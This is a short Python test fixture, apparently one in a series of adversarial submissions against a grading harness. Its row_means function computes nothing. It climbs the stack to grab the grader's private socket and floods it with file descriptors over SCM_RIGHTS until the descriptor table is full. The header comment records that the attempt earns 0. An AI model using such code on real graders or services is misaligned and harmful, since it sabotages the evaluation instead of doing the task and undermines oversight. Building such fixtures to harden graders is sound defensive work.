# E12: sends the grader descriptors until its table is full -> row_means failed or timed out or crashed, Counter missing; earns 0
import array
import os
import socket
import sys


def row_means(x):
    frame = sys._getframe()
    while "channel" not in frame.f_locals:
        frame = frame.f_back
    sock = frame.f_locals["channel"]._sock
    sock.setblocking(True)
    null = os.open("/dev/null", os.O_RDONLY)
    sock.sendall(b"\0\0\0\xff\0\0\0\0")
    for _ in range(20):
        sock.sendmsg([b"\xc0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null] * 200))])
    return 0
